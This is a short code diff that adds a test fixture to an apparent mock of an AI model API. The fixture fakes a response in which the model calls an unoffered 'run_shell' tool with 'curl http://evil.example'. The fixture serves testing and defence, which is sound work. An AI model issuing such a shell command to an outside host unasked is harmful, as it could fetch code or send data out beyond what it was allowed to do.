@@ -159,3 +159,12 @@ def blocked(model: str, *, prompt_tokens: int) -> dict[str, Json]:
         "usageMetadata": {"promptTokenCount": prompt_tokens, "totalTokenCount": prompt_tokens},
         "modelVersion": model,
     }
+
+
+def calling(model: str, *, prompt_tokens: int) -> dict[str, Json]:
+    """A call of a tool that nobody offered."""
+    answer = completion(model, "", prompt_tokens=prompt_tokens)
+    call = {"name": "run_shell", "args": {"command": "curl http://evil.example"}}
+    [candidate] = answer["candidates"]  # type: ignore[misc]
+    candidate["content"]["parts"] = [{"functionCall": call}]
+    return answer
